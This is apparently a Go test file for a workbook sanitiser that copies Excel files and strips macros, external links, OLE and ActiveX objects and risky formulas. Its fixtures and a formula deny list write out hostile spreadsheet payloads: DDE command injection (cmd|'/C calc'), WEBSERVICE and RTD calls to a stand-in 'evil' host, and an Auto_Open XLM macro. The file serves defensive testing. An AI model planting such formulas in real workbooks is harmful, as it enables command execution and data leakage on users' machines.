package clean

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"

	"parkstat/templates/xlsx"
)

const (
	head = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
	wb   = `<workbook xmlns="` + nsMain + `" xmlns:r="` + nsRel + `">`
	ws   = `<worksheet xmlns="` + nsMain + `" xmlns:r="` + nsRel + `" xmlns:mc="` + nsCompat + `" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">`
)

// rels writes a list of relations: kind or whole type, target.
func rels(list ...[2]string) string {
	s := head + `<Relationships xmlns="` + nsPackage + `relationships">`
	for i, r := range list {
		kind, mode := r[0], ""
		if !strings.Contains(kind, "/") {
			kind = nsRel + "/" + kind
		}
		if strings.Contains(r[1], ":") || strings.HasPrefix(r[1], `\\`) {
			mode = ` TargetMode="External"`
		}
		s += `<Relationship Id="` + sheetRel(i+1) + `" Type="` + kind + `" Target="` + r[1] + `"` + mode + `/>`
	}
	return s + `</Relationships>`
}

// book is a workbook of one sheet, Data, with these rows in it.
func book(rows string) map[string]string {
	return map[string]string{
		partTypes: head + `<Types xmlns="` + nsPackage + `content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`,
		partRootRels:                 rels([2]string{"officeDocument", "xl/workbook.xml"}),
		"xl/workbook.xml":            head + wb + `<sheets><sheet name="Data" sheetId="7" r:id="rId1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": rels([2]string{"worksheet", "worksheets/sheet1.xml"}, [2]string{"styles", "styles.xml"}, [2]string{"sharedStrings", "sharedStrings.xml"}),
		"xl/worksheets/sheet1.xml":   head + ws + `<sheetData>` + rows + `</sheetData></worksheet>`,
		"xl/styles.xml": head + `<styleSheet xmlns="` + nsMain + `"><fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders>` +
			`<cellXfs count="2"><xf/><xf numFmtId="14" applyNumberFormat="1"><protection locked="0"/></xf></cellXfs></styleSheet>`,
		"xl/sharedStrings.xml": head + `<sst xmlns="` + nsMain + `"><si><t xml:space="preserve"> 甲&amp;乙 </t></si><si><r><t>a</t></r><r><t>b</t></r></si></sst>`,
	}
}

func zipped(t *testing.T, parts map[string]string) []byte {
	t.Helper()
	var files []file
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		files = append(files, file{name, []byte(parts[name])})
	}
	data, err := pack(files)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func unzipped(t *testing.T, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err = errors.Join(err, r.Close()); err != nil {
			t.Fatal(err)
		}
		all[f.Name] = string(body)
	}
	return all
}

func read(t *testing.T, data []byte) *xlsx.Book {
	t.Helper()
	b, err := xlsx.Read(data, xlsx.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// copied is a workbook's copy, which must say the same.
func copied(t *testing.T, data []byte) *Copy {
	t.Helper()
	c, err := Workbook(data)
	if err != nil {
		t.Fatal(err)
	}
	before, after := read(t, data), read(t, c.Data)
	if len(before.Sheets) != len(after.Sheets) {
		t.Fatalf("%d sheets, want %d", len(after.Sheets), len(before.Sheets))
	}
	for i, s := range before.Sheets {
		if a := after.Sheets[i]; a.Name != s.Name || a.Visibility != s.Visibility {
			t.Errorf("sheet %q %d, want %q %d", a.Name, a.Visibility, s.Name, s.Visibility)
		}
		for _, c := range slices.Concat(s.Cells, after.Sheets[i].Cells) {
			a, b := s.At(c.Row, c.Col), after.Sheets[i].At(c.Row, c.Col)
			if a.Kind != b.Kind || a.Text != b.Text {
				t.Errorf("%s is %s %q, want %s %q", c.Ref(), b.Kind, b.Text, a.Kind, a.Text)
			}
		}
	}
	return c
}

// hostile is a workbook with all that must not come back; whatever leads out of it
// says evil.
func hostile() map[string]string {
	p := book(`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1"><v>45000</v></c><c r="C1"><f>[1]evil!A1</f><v>41</v></c>` +
		`<c r="D1" t="str"><f>WEBSERVICE("http://evil")</f><v>42</v></c><c r="E1"><f>SUM(B1,2)*ROUND(1.5,0)</f><v>43</v></c></row>` +
		`<row r="2"><c r="A2"><f t="shared" ref="A2:B2" si="0">RTD("evil",,"x")</f><v>44</v></c><c r="B2"><f t="shared" si="0"/><v>45</v></c>` +
		`<c r="C2"><f>cmd|'/C evil'!A0</f><v>46</v></c><c r="D2"><f>SAFE+1</f><v>47</v></c><c r="E2"><f>EVIL_NAME+1</f><v>48</v></c><c r="F2"><f>HYPERLINK("\\evil\x","y")</f><v>49</v></c></row>` +
		`<row r="3"><c r="A3" cm="1" vm="1" t="inlineStr"><is><t>=evil()</t></is></c><c r="B3"><f>'\\evil\[x.xlsx]S'!A1</f></c></row>`)
	p["xl/workbook.xml"] = head + wb + `<mc:AlternateContent xmlns:mc="` + nsCompat + `"><mc:Choice Requires="x15"><absPath xmlns="evil" url="C:\evil\"/></mc:Choice></mc:AlternateContent>` +
		`<workbookPr codeName="evil" date1904="0"/><bookViews><workbookView activeTab="2"/></bookViews>` +
		`<sheets><sheet name="Macro" sheetId="1" state="veryHidden" r:id="rId4"/><sheet name="Data" sheetId="7" r:id="rId1"/><sheet name="_parkstat" sheetId="8" state="veryHidden" r:id="rId5"/></sheets>` +
		`<externalReferences><externalReference r:id="rId6"/></externalReferences>` +
		`<definedNames><definedName name="Auto_Open" xlm="1" function="1">Macro!$A$1</definedName><definedName name="SAFE">Data!$A$1:$B$2</definedName>` +
		`<definedName name="EVIL_NAME">[1]evil!$A$1</definedName><definedName name="_xlnm.Print_Titles" localSheetId="2">_parkstat!$1:$1</definedName><definedName name="gone" localSheetId="0">1</definedName></definedNames>` +
		`<calcPr calcId="1"/><pivotCaches><pivotCache cacheId="1" r:id="rId7"/></pivotCaches><extLst><ext uri="evil"/></extLst></workbook>`
	p["xl/_rels/workbook.xml.rels"] = rels([2]string{"worksheet", "worksheets/sheet1.xml"}, [2]string{"styles", "styles.xml"}, [2]string{"sharedStrings", "sharedStrings.xml"},
		[2]string{"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet9.xml"}, [2]string{"worksheet", "worksheets/sheet2.xml"},
		[2]string{"externalLink", "externalLinks/externalLink1.xml"}, [2]string{"pivotCacheDefinition", "pivotCache/evil1.xml"},
		[2]string{"http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"}, [2]string{"connections", "connections.xml"}, [2]string{"theme", "theme/theme1.xml"},
		[2]string{"customXml", "../customXml/item1.xml"}, [2]string{"sheetMetadata", "metadata.xml"})
	p[partRootRels] = rels([2]string{"officeDocument", "xl/workbook.xml"}, [2]string{"http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/evil.xml"},
		[2]string{"extended-properties", "docProps/app.xml"}, [2]string{"http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml"})
	p["xl/worksheets/sheet1.xml"] = strings.NewReplacer(`<sheetData>`, `<sheetPr codeName="evil"><tabColor rgb="FF00FF00"/></sheetPr><sheetViews><sheetView workbookViewId="0"><pivotSelection r:id="rId9"/></sheetView></sheetViews><sheetData>`,
		`</sheetData>`, `</sheetData><sheetProtection sheet="1" objects="1"/>`+
			`<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]evil!A1&gt;0</formula></cfRule></conditionalFormatting>`+
			`<conditionalFormatting sqref="A2"><cfRule type="expression" priority="2"><formula>$A$2&gt;0</formula></cfRule></conditionalFormatting>`+
			`<dataValidations count="2"><dataValidation type="list" sqref="A1"><formula1>[1]evil!A:A</formula1></dataValidation><dataValidation type="whole" sqref="B1"><formula1>0</formula1></dataValidation></dataValidations>`+
			`<hyperlinks><hyperlink ref="A1" r:id="rId1"/><hyperlink ref="A2" r:id="rId2"/><hyperlink ref="A3" r:id="rId3"/><hyperlink ref="B1" r:id="rId4" location="Data!A1"/>`+
			`<hyperlink ref="B2" location="_parkstat!A1" display="go"/><hyperlink ref="B3" location="[evil.xlsx]S!A1"/></hyperlinks>`+
			`<pageSetup orientation="landscape" r:id="rId5"/><drawing r:id="rId6"/><legacyDrawing r:id="rId7"/><picture r:id="rId8"/>`+
			`<mc:AlternateContent><mc:Choice Requires="x14"><controls><control r:id="rId10" name="evil"/></controls></mc:Choice><mc:Fallback><controls><control r:id="rId10" name="evil"/></controls></mc:Fallback></mc:AlternateContent>`+
			`<oleObjects><oleObject progId="evil" r:id="rId9"/></oleObjects><tableParts><tablePart r:id="rId12"/></tableParts><extLst><ext uri="evil"/></extLst>`).Replace(p["xl/worksheets/sheet1.xml"])
	p["xl/worksheets/_rels/sheet1.xml.rels"] = rels([2]string{"hyperlink", "http://evil/"}, [2]string{"hyperlink", "mailto:evil@evil"}, [2]string{"hyperlink", `\\evil\share`}, [2]string{"hyperlink", "file:///evil"},
		[2]string{"printerSettings", "../printerSettings/printerSettings1.bin"}, [2]string{"drawing", "../drawings/drawing1.xml"}, [2]string{"vmlDrawing", "../drawings/vmlDrawing1.vml"}, [2]string{"image", "../media/image1.png"},
		[2]string{"oleObject", "../embeddings/oleObject1.bin"}, [2]string{"control", "../activeX/activeX1.xml"}, [2]string{"comments", "../comments1.xml"}, [2]string{"table", "../tables/table1.xml"},
		[2]string{"queryTable", "../queryTables/queryTable1.xml"})
	p["xl/worksheets/sheet2.xml"] = head + ws + `<sheetData><row r="1"><c r="A1" t="str"><v>form</v></c></row></sheetData></worksheet>`
	p["xl/comments1.xml"] = head + `<comments xmlns="` + nsMain + `"><authors><author>张三</author></authors><commentList><comment ref="A1" authorId="0"><text><r><t>张三：</t></r><r><t xml:space="preserve">
 已核对</t></r></text></comment><comment ref="B9" authorId="7"><text><t>另一条</t></text></comment></commentList></comments>`
	p["xl/theme/theme1.xml"] = head + `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="` + nsRel + `"><a:blip r:link="rIdEvil"/></a:theme>`
	for _, name := range []string{"xl/vbaProject.bin", "xl/macrosheets/sheet9.xml", "xl/externalLinks/externalLink1.xml", "xl/pivotCache/evil1.xml", "xl/connections.xml", "customXml/item1.xml", "xl/metadata.xml",
		"customUI/evil.xml", "docProps/app.xml", "xl/webextensions/taskpanes.xml", "xl/printerSettings/printerSettings1.bin", "xl/drawings/drawing1.xml", "xl/drawings/vmlDrawing1.vml", "xl/media/image1.png",
		"xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml", "xl/tables/table1.xml", "xl/queryTables/queryTable1.xml", "xl/model/item.data", "xl/ctrlProps/ctrlProp1.xml", "nobody/knows.me"} {
		p[name] = "<evil/>"
	}
	return p
}

// Nothing that leads out of the workbook, or runs, comes into the copy; the figures
// do, and so does the layout.
func TestHostile(t *testing.T) {
	c := copied(t, zipped(t, hostile()))
	parts := unzipped(t, c.Data)
	want := []string{partTypes, partRootRels, "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"}
	if got := slices.Sorted(maps.Keys(parts)); !slices.Equal(got, slices.Sorted(slices.Values(want))) {
		t.Errorf("parts %q", got)
	}
	for name, body := range parts {
		body = strings.Replace(body, "=evil()", "", 1) // the text in A3
		if at := regexp.MustCompile(`(?i).{0,60}(evil|External|macroEnabled|vba|r:link).{0,20}`).FindString(body); at != "" {
			t.Errorf("%s holds %q", name, at)
		}
	}
	sheet := parts["xl/worksheets/sheet1.xml"]
	for _, kept := range []string{`<f>SUM(B1,2)*ROUND(1.5,0)</f>`, `<f>SAFE+1</f>`, `<formula>$A$2&gt;0</formula>`, `<formula1>0</formula1>`, `location="_parkstat!A1"`, `<sheetProtection sheet="1" objects="1">`, `<tabColor rgb="FF00FF00"/>`, `<pageSetup orientation="landscape">`} {
		if !strings.Contains(sheet, kept) {
			t.Errorf("the sheet lost %s", kept)
		}
	}
	if n := strings.Count(sheet, "<f"); n != 4 { // two formulas, formula and formula1
		t.Errorf("%d formulas in %s", n, sheet)
	}
	if !strings.Contains(parts["xl/workbook.xml"], `<definedName name="_xlnm.Print_Titles" localSheetId="1">`) || strings.Contains(parts["xl/workbook.xml"], "gone") {
		t.Errorf("names: %s", parts["xl/workbook.xml"])
	}
	for _, what := range []string{macros, objects, links, data, pivots, drawings, tables, addins, formulas, names, checks} {
		if !slices.Contains(c.Left, what) {
			t.Errorf("nothing is said of %s", what)
		}
	}
	if got := c.Comments["Data"]; !slices.Equal(got, []Comment{{"A1", "张三", "张三：\n 已核对"}, {"B9", "", "另一条"}}) {
		t.Errorf("comments %q", got)
	}
	if err := Check(c.Data); err != nil {
		t.Errorf("the copy does not pass: %v", err)
	}
}

// What an honest program writes is the same in other spellings: prefixes, the strict
// namespace, parts elsewhere.
func TestSpellings(t *testing.T) {
	prefixed := book(`<row r="1"><c r="A1"><v>1</v></c></row>`)
	prefixed["xl/worksheets/sheet1.xml"] = head + `<x:worksheet xmlns:x="` + nsMain + `"><x:sheetData><x:row r="1"><x:c r="A1" t="s"><x:f>1+1</x:f><x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>`
	strict := book("")
	for name, body := range strict {
		if name != partTypes {
			strict[name] = strings.NewReplacer(nsMain, nsMainStrict, nsRel, nsRelStrict).Replace(body)
		}
	}
	strict["xl/worksheets/sheet1.xml"] = strings.Replace(strict["xl/worksheets/sheet1.xml"], "</sheetData>", `<row r="4"><c r="C4" t="d" s="1"><v>2023-07-01</v></c></row></sheetData>`, 1)
	elsewhere := map[string]string{}
	for name, body := range book(`<row r="1"><c r="A1"><v>1</v></c></row>`) {
		elsewhere[strings.ReplaceAll(name, "xl/", "ABC/")] = strings.ReplaceAll(body, "xl/", "abc/")
	}
	split := book("")
	split["xl/styles.xml"] = strings.NewReplacer(`<cellXfs count="2"><xf/>`, `<cellXfs count="2"><mc:AlternateContent xmlns:mc="`+nsCompat+`"><mc:Choice Requires="x"><xf/><xf/><xf/></mc:Choice><mc:Fallback><xf/></mc:Fallback></mc:AlternateContent>`).Replace(split["xl/styles.xml"])
	split["xl/worksheets/sheet1.xml"] = head + ws + `<sheetData><row r="1"><c r="A1" s="1"><v>45000</v></c></row></sheetData></worksheet>`
	for name, parts := range map[string]map[string]string{"prefixed": prefixed, "strict": strict, "elsewhere": elsewhere, "alternatives": split} {
		t.Run(name, func(t *testing.T) {
			c := copied(t, zipped(t, parts))
			if len(c.Left) > 0 {
				t.Errorf("left behind %q", c.Left)
			}
			if err := Check(c.Data); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestUnthreaded(t *testing.T) {
	for text, want := range map[string]string{
		"甲: 乙": "甲: 乙",
		"[线程批注]\n\n你的 Excel 版本可读取此线程批注。了解更多: https://go.microsoft.com/fwlink/?linkid=870924\n\n注释:\n    含新厂区": "含新厂区",
		"https://go.microsoft.com/fwlink/?linkid=870924\n\n含新厂区":                                              "含新厂区",
	} {
		if got := strings.TrimSpace(unthreaded(text)); got != want {
			t.Errorf("%q, want %q", got, want)
		}
	}
}

func TestSame(t *testing.T) {
	data := zipped(t, hostile())
	a, err1 := Workbook(data)
	b, err2 := Workbook(data)
	if err := errors.Join(err1, err2); err != nil || !bytes.Equal(a.Data, b.Data) || !slices.Equal(a.Left, b.Left) {
		t.Errorf("two copies differ: %v", err)
	}
}

// Check finds what somebody put into a copy afterwards.
func TestCheck(t *testing.T) {
	c := copied(t, zipped(t, book(`<row r="1"><c r="A1"><v>1</v></c></row>`)))
	good := unzipped(t, c.Data)
	edit := func(name, old, new string) map[string]string {
		p := maps.Clone(good)
		p[name] = strings.Replace(p[name], old, new, 1)
		return p
	}
	add := func(name, body string) map[string]string {
		p := maps.Clone(good)
		p[name] = body
		return p
	}
	const box = `<xml xmlns:v="v" xmlns:x="x"><v:shape>%</v:shape></xml>`
	for name, parts := range map[string]map[string]string{
		"a part":             add("xl/vbaProject.bin", ""),
		"a folder in hiding": add("xl/worksheets/../../evil.xml", ""),
		"a link":             add("xl/worksheets/_rels/sheet1.xml.rels", rels([2]string{"hyperlink", "http://evil"})),
		"a kind":             add("xl/worksheets/_rels/sheet1.xml.rels", rels([2]string{"oleObject", "sheet1.xml"})),
		"an outside comment": add("xl/worksheets/_rels/sheet1.xml.rels", rels([2]string{"comments", "file:///c.xml"})),
		"a missing part":     add("xl/worksheets/_rels/sheet1.xml.rels", rels([2]string{"comments", "../comments1.xml"})),
		"a type":             edit(partTypes, "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml"),
		"a formula":          edit("xl/worksheets/sheet1.xml", "<v>1</v>", "<f>[1]A!A1</f><v>1</v>"),
		"a name":             edit("xl/workbook.xml", "</workbook>", `<definedNames><definedName name="Auto_Open" xlm="1">Data!$A$1</definedName></definedNames></workbook>`),
		"an object":          edit("xl/worksheets/sheet1.xml", "</worksheet>", `<oleObjects/></worksheet>`),
		"a button":           add("xl/drawings/vmlDrawing1.vml", strings.Replace(box, "%", `<x:ClientData ObjectType="Button"/>`, 1)),
		"a macro":            add("xl/drawings/vmlDrawing1.vml", strings.Replace(box, "%", `<x:ClientData ObjectType="Note"><x:FmlaMacro>x</x:FmlaMacro></x:ClientData>`, 1)),
		"a box that leads":   add("xl/drawings/vmlDrawing1.vml", strings.Replace(box, "<v:shape>%", `<v:shape href="http://evil">`, 1)),
	} {
		if err := Check(zipped(t, parts)); err == nil {
			t.Errorf("%s passes", name)
		}
	}
	if err := Check(zipped(t, add("xl/drawings/vmlDrawing1.vml", strings.Replace(box, "%", `<x:ClientData ObjectType="Note"/>`, 1)))); err != nil {
		t.Errorf("a comment does not pass: %v", err)
	}
}

func TestHarmless(t *testing.T) {
	g := grounds{map[string]bool{"data": true, "产销 月报": true, "a'b": true}, map[string]bool{"rate": true, "税率": true}}
	for _, f := range []string{"", "A1", "=$A$1+B2*3.5E+3-.5", `IF(A1>0,"a ""b"" [c]",'产销 月报'!B2)`, "SUM(Data!A1:B9)/rate*税率", "SUM(A:A,$1:$3)", "_xlfn.CONCAT(A1,{1,2;3,4})", "#REF!+#N/A", "'a''b'!A1", "TRUE", "'Data:产销 月报'!A1",
		"ROUND(SUM(D9:D12)/1000,2)%", "-A1^2&\"x\""} {
		if !g.harmless(f) {
			t.Errorf("%s is taken for harmful", f)
		}
	}
	for _, f := range []string{"[1]Data!A1", "'[1]Data'!A1", `'C:\[x.xlsx]Data'!A1`, "cmd|'/C calc'!A0", "WEBSERVICE(\"x\")", "HYPERLINK(A1)", "RTD(1)", "CALL(1)", "EXEC(1)", "REGISTER.ID(1)", "INDIRECT(A1)", "_xlfn.WEBSERVICE(A1)",
		"Other!A1", "'Other'!A1", "unknown+1", "Table1[x]", "A1#", "@A1", `"open`, "'open!A1", "'Data'", "SUM (A1", "foo(A1)", "Data!foo(1)", "x.xlsx!A1", "A1\\B1", "`a`", "Data:Other!A1", "FILTERXML(A1,A2)", "IMAGE(A1)", "DDE(1)", "ＳＵＭ(A1)"} {
		if g.harmless(f) {
			t.Errorf("%s is taken for harmless", f)
		}
	}
}
